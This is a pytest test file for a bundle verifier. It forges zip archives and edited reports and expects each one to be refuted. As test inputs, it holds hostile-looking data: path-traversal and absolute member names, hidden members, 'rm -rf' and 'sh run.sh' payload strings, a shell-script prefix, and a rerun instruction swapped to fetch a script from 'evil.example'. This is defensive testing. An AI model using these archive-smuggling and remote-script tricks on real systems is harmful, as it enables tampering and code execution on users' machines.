"""A bundle that was sent is judged: an honest one holds, and each forged zip or text is refuted in one line.

Forged receipts are those of test_receipt_check.py, since one judge judges both.
"""

from __future__ import annotations

import io
import json
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest

from harness.pack import load
from harness.pack.model import Pack
from harness.report import bundle
from testing.workbench import Workbench, empty

TOY = "60_script_and_contract"
RECEIPT = "receipts/cpu.traced.json"
#: The flag of a member that states checksum and sizes behind its data.
SIZES_FOLLOW = 8


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Workbench:
    """Record the toy, and bundle it."""
    found = empty(tmp_path_factory.mktemp("bundle"))
    found.lay(TOY)
    found.recorded(TOY, "--target", "cpu")
    made = found.run("report", TOY, "--bundle", str(found.folder / "sent.zip"))
    assert made.returncode == 0, made.stdout + made.stderr
    return found


@pytest.fixture(scope="module")
def pack(bench: Workbench) -> Pack:
    return load.load_pack(bench.packs / TOY)


@pytest.fixture(scope="module")
def honest(bench: Workbench) -> dict[str, bytes]:
    with zipfile.ZipFile(bench.folder / "sent.zip") as opened:
        return {info.filename.partition("/")[2]: opened.read(info) for info in opened.infolist()}


def _zipped(
    content: dict[str, bytes], top: str = TOY, mode: int = 0o644 << 16, extra: bytes = b"", hidden: bytes = b""
) -> bytes:
    """Zip `content`; fix.patch has the field `extra`, and `hidden` stands before the directory."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, data in content.items():
            info = zipfile.ZipInfo(f"{top}/{name}" if top else name, bundle.DATE)
            info.compress_type, info.external_attr = zipfile.ZIP_DEFLATED, mode
            info.extra = extra if name == "fix.patch" else b""
            opened.writestr(info, data)
        if hidden:
            opened.fp.write(hidden)  # type: ignore[union-attr]
            opened.start_dir += len(hidden)
    return stream.getvalue()


def _replaced(honest: dict[str, bytes], name: str, old: str, new: str) -> bytes:
    assert old.encode() in honest[name]
    return _zipped(honest | {name: honest[name].replace(old.encode(), new.encode())})


def _zip64(honest: dict[str, bytes]) -> bytes:
    """Add a second record of where the directory is, which some programs follow and others do not."""
    data = _zipped(honest)
    members, (count, size, start) = data[:-22], struct.unpack("<HLL", data[-12:-2])
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, start)
    return members + record + struct.pack("<4sLQL", b"PK\6\7", 0, len(members), 1) + data[-22:]


def _counted(honest: dict[str, bytes], less: int) -> bytes:
    """Let the end of the zip count fewer members than there are."""
    data = bytearray(_zipped(honest))
    count = int.from_bytes(data[-12:-10], "little") - less
    data[-14:-10] = struct.pack("<2H", count, count)
    return bytes(data)


def _stated(honest: dict[str, bytes], place: int) -> bytes:
    """Let the first member's own header state something else than the directory does."""
    data = bytearray(_zipped(honest))
    data[place] ^= 1
    return bytes(data)


def _headed(honest: dict[str, bytes], local: int, central: int, value: int) -> bytes:
    """Let both headers of the first member have another byte at these places."""
    data = bytearray(_zipped(honest))
    data[local] = data[data.index(b"PK\1\2") + central] = value
    if value == SIZES_FOLLOW:
        data[14:26] = bytes(12)
    return bytes(data)


def _behind_a_stream(honest: dict[str, bytes]) -> bytes:
    """Put bytes behind the stream of the last member, and count them as its own."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, data in honest.items():
            info = zipfile.ZipInfo(f"{TOY}/{name}", bundle.DATE)
            info.compress_type, info.external_attr = zipfile.ZIP_DEFLATED, 0o644 << 16
            opened.writestr(info, data)
        last = opened.infolist()[-1]
        opened.fp.write(b"rm -rf")  # type: ignore[union-attr]
        last.compress_size += 6
        opened.start_dir += 6
        opened.fp.seek(last.header_offset)  # type: ignore[union-attr]
        opened.fp.write(last.FileHeader())  # type: ignore[union-attr]
    return stream.getvalue()


def _commented(honest: dict[str, bytes]) -> bytes:
    stream = io.BytesIO(_zipped(honest))
    with zipfile.ZipFile(stream, "a") as opened:
        opened.infolist()[0].comment = b"sh run.sh"
        opened._didModify = True  # type: ignore[attr-defined]  # noqa: SLF001 - the directory is written again
    return stream.getvalue()


def _told(honest: dict[str, bytes], lie: Callable[[dict[str, Any]], object]) -> bytes:
    """Tell a lie in the receipt."""
    document = json.loads(honest[RECEIPT])
    lie(document)
    return _zipped(honest | {RECEIPT: json.dumps(document).encode()})


def _without(honest: dict[str, bytes], name: str) -> bytes:
    return _zipped({member: data for member, data in honest.items() if member != name})


def _log(honest: dict[str, bytes]) -> str:
    return next(name for name in honest if name.endswith(".log"))


BUNDLES: dict[str, tuple[Callable[[dict[str, bytes]], bytes], str]] = {
    "an edited script": (
        lambda sent: _replaced(sent, "reproduce.py", "import sys", "import os"),
        "reproduce.py: it",
    ),
    "an edited contract": (lambda sent: _replaced(sent, "contract.py", "6.0", "7.0"), "contract.py: it differs"),
    "an edited patch": (lambda sent: _replaced(sent, "fix.patch", "+", "+ "), "fix.patch: it differs"),
    "an edited definition": (lambda sent: _replaced(sent, "pack.toml", "cpu", "cpu "), "pack.toml: it differs"),
    "an edited report": (lambda sent: _replaced(sent, "README.md", "CONFIRMED", "REFUTED"), "README.md: it differs"),
    "an edited first page": (lambda sent: _replaced(sent, "RERUN.md", "CONFIRMED", "PROVEN"), "RERUN.md: it differs"),
    "no script": (lambda sent: _without(sent, "reproduce.py"), "reproduce.py: it is missing"),
    "no contract": (lambda sent: _without(sent, "contract.py"), "contract.py: it is missing"),
    "no report": (lambda sent: _without(sent, "README.md"), "README.md: it is missing"),
    "no receipts": (lambda sent: _without(sent, RECEIPT), "no receipt to bundle"),
    "no log": (lambda sent: _without(sent, _log(sent)), "is missing or has another hash"),
    "an edited log": (lambda sent: _replaced(sent, _log(sent), "FIX_VALIDATED", "FIX VALIDATED"), "another hash"),
    "a foreign script": (lambda sent: _zipped(sent | {"run.sh": b"rm"}), "run.sh: no bundle of this"),
    "a foreign receipt": (
        lambda sent: _zipped(sent | {"receipts/x/cpu.traced.json": sent[RECEIPT]}),
        "receipts/x/cpu.traced.json",
    ),
    "another folder": (lambda sent: _zipped(sent, "01_confirmed"), "of no pack of this repository"),
    "no folder": (lambda sent: _zipped(sent, ""), "of no pack of this repository"),
    "a link": (lambda sent: _zipped(sent, mode=(stat.S_IFLNK | 0o644) << 16), "no plain file"),
    "a program": (lambda sent: _zipped(sent, mode=0o755 << 16), "no plain file"),
    "a name that climbs": (
        lambda sent: _zipped(sent | {"receipts/../../x.json": b""}),
        "no bundle of this pack has it",
    ),
    "an absolute name": (lambda sent: _zipped({"/etc/x": b""} | sent, ""), "of no pack of this repository"),
    "a name with a backslash": (lambda sent: _zipped(sent | {"a\\b": b""}), "no bundle of this pack has it"),
    "a name on a drive": (lambda sent: _zipped(sent | {"c:x": b""}), "no bundle of this pack has it"),
    "a name with an escape": (lambda sent: _zipped(sent | {"\x1b[2J": b""}), "no bundle of this pack has it"),
    "two names but for case": (lambda sent: _zipped(sent | {"README.MD": b""}), "no bundle of this pack has it"),
    "a name twice": (
        lambda sent: _zipped(sent | {"README.mx": b""}).replace(b"README.mx", b"README.md"),
        "stands there twice",
    ),
    "a file that is a folder, too": (
        lambda sent: _zipped(sent | {"receipts/x": b"", "receipts/x/y": b""}),
        "receipts/x: no bundle of this pack has it",
    ),
    "a folder": (lambda sent: _zipped(sent | {"more/": b""}), "no bundle of this pack has it"),
    "more than 128 MiB": (lambda sent: _zipped(sent | {"x": bytes(128 << 20)}), "or 134217728 bytes"),
    "a thousand members": (lambda sent: _zipped(sent | {f"x{n}": b"" for n in range(1000)}), "more than 500 members"),
    "something behind the zip": (lambda sent: _zipped(sent) + b"more" * 20_000, "no zip"),
    "something before the zip": (lambda sent: b"#!/bin/sh\n" + _zipped(sent), "something stands around the zip"),
    "a name that unzip alone reads": (
        lambda sent: _zipped(
            sent, extra=struct.pack("<HHBL4s", 0x7075, 9, 1, zlib.crc32(f"{TOY}/fix.patch".encode()), b"evil")
        ),
        "something stands beside its members",
    ),
    "a member that no directory lists": (
        lambda sent: _zipped(sent, hidden=_zipped({"run.sh": b"rm"}, "").partition(b"PK\x01\x02")[0]),
        "something stands beside its members",
    ),
    "a second record of the directory": (_zip64, "something stands beside its members"),
    "a member fewer than there are": (lambda sent: _counted(sent, 1), "something stands beside its members"),
    "another checksum in a member's header": (lambda sent: _stated(sent, 14), "or in its header"),
    "another size in a member's header": (lambda sent: _stated(sent, 22), "or in its header"),
    "another method in a member's header": (lambda sent: _stated(sent, 8), "or in its header"),
    "a member whose sizes follow it": (lambda sent: _headed(sent, 6, 8, SIZES_FOLLOW), "no plain file"),
    "a member that is encrypted": (lambda sent: _headed(sent, 6, 8, 1), "no plain file"),
    "a member for a newer unzip": (lambda sent: _headed(sent, 4, 6, 63), "no plain file"),
    "a member of another day": (lambda sent: _headed(sent, 12, 14, 1), "no plain file"),
    "bytes behind a member's stream": (_behind_a_stream, "it does not hold what it states"),
    "60 kB of extra fields": (
        lambda sent: _zipped(sent, extra=struct.pack("<HH", 0x9999, 60_000) + bytes(60_000)),
        "something stands beside its members",
    ),
    "100 kB before the directory": (lambda sent: _zipped(sent, hidden=bytes(100_000)), "beside its members"),
    "a comment of a member": (_commented, "something stands beside its members"),
    "the patched tree of nobody": (
        lambda sent: _told(sent, lambda told: told["lanes"]["patched"].update(tree="0" * 64)),
        "patched lane: tree: other than in this repository's receipt",
    ),
    "a check left out in both lanes": (
        lambda sent: _told(sent, lambda told: [lane["checks"].pop() for lane in told["lanes"].values()]),
        "checks: other than in this repository's receipt",
    ),
    "a module with the hash of nobody": (
        lambda sent: _told(sent, lambda told: told["lanes"]["patched"]["upstream"][1].update(sha256="1" * 64)),
        "patched lane: upstream: other",
    ),
    "a figure of nobody": (
        lambda sent: _told(
            sent, lambda told: told["lanes"]["patched"]["figures"].append({"name": "speedup", "value": 99, "unit": "x"})
        ),
        "patched lane: figures: other",
    ),
    "a reason of the script": (
        lambda sent: _told(sent, lambda told: told["lanes"]["pristine"].update(script="BUG_REPRODUCED: of glibc")),
        "its log does not say BUG_REPRODUCED: of glibc in the pristine lane",
    ),
    "half a zip": (lambda sent: _zipped(sent)[: len(_zipped(sent)) // 2], "no zip"),
    "nothing": (lambda _: b"", "no zip"),
    "half a receipt": (lambda sent: _zipped(sent | {RECEIPT: sent[RECEIPT][:500]}), RECEIPT),
}


#: Words of the texts of a bundle, and others of the same words, or of words that the text has elsewhere.
TEXTS = {
    "the verdict turned round": (
        "README.md",
        "has the bug, and with the patch it does not",
        "is right, and wrong with it",
    ),
    "the statuses exchanged": ("README.md", "BUG_REPRODUCED\n$", "FIX_VALIDATED\n$"),
    "the rest hidden": ("README.md", "---\n", "<!--\n"),
    "another release": ("README.md", "Fixed in toykernel 2.0", "Fixed in toykernel 1.0"),
    "another PyTorch": ("README.md", "torch 2", "torch 1"),
    "another Python": ("README.md", "Python 3", "Python 2"),
    "a part left out": ("README.md", "**Not tested.** Other dtypes.", ""),
    "the patch's lines exchanged": ("README.md", "-    return [", "+    return ["),
    "another number": ("README.md", "right is [1.0, 1.0, 0.0]", "right is [1.0, 2.0, 3.0]"),
    "a script from elsewhere": ("RERUN.md", "uv run reproduce.py", "uv run https://evil.example/reproduce.py"),
    "another clone": ("RERUN.md", "https://example.org/", "https://evil.example/"),
    "another commit": ("RERUN.md", "0" * 39 + "1", "0" * 39 + "2"),
    "the commands in another order": ("RERUN.md", "git -C CHECKOUT apply", "true || git -C CHECKOUT apply"),
    "the end statuses exchanged": ("RERUN.md", "(exit status 10)", "(exit status 0)"),
}


@pytest.mark.hostile("the texts of a bundle")
@pytest.mark.parametrize("name", TEXTS)
def test_a_text_that_says_something_else_is_refuted(honest: dict[str, bytes], pack: Pack, name: str) -> None:
    member, old, new = TEXTS[name]
    assert bundle.errors(_replaced(honest, member, old, new), [pack]) == [
        f"{member}: it differs from this repository's"
    ]


@pytest.mark.hostile("a bundle's zip and members")
@pytest.mark.parametrize("name", BUNDLES)
def test_a_forged_bundle_is_refuted(honest: dict[str, bytes], pack: Pack, name: str) -> None:
    forge, words = BUNDLES[name]
    found = bundle.errors(forge(honest), [pack])
    assert any(words in error for error in found), found


def test_no_flipped_bit_raises(honest: dict[str, bytes], pack: Pack) -> None:
    data = _zipped(honest)
    for place in range(0, len(data), max(1, len(data) // 100)):
        forged = data[:place] + bytes([data[place] ^ 0x20]) + data[place + 1 :]
        assert all(isinstance(error, str) for error in bundle.errors(forged, [pack]))


def test_an_honest_bundle_holds_and_a_forged_one_is_refuted_line_by_line(
    bench: Workbench, honest: dict[str, bytes]
) -> None:
    ended = bench.run("check", "--bundle", str(bench.folder / "sent.zip"))
    assert (ended.returncode, ended.stdout.strip()) == (0, "sent.zip: it holds"), ended.stdout
    forged = bench.folder / "forged.zip"
    forged.write_bytes(_replaced(honest, RECEIPT, '"kind": "', '"kind": "\\u001b[2J'))
    ended = bench.run("check", "--bundle", str(forged))
    assert (ended.returncode, ended.stderr) == (1, "")
    assert "refuted: " in ended.stdout
    assert "\x1b" not in ended.stdout
    assert bench.run("check", "--bundle", str(bench.folder / "absent.zip")).returncode == 2


def test_the_same_pack_gives_the_same_bytes(bench: Workbench) -> None:
    bench.run("report", TOY, "--bundle", str(bench.folder / "again.zip"))
    assert (bench.folder / "again.zip").read_bytes() == (bench.folder / "sent.zip").read_bytes()
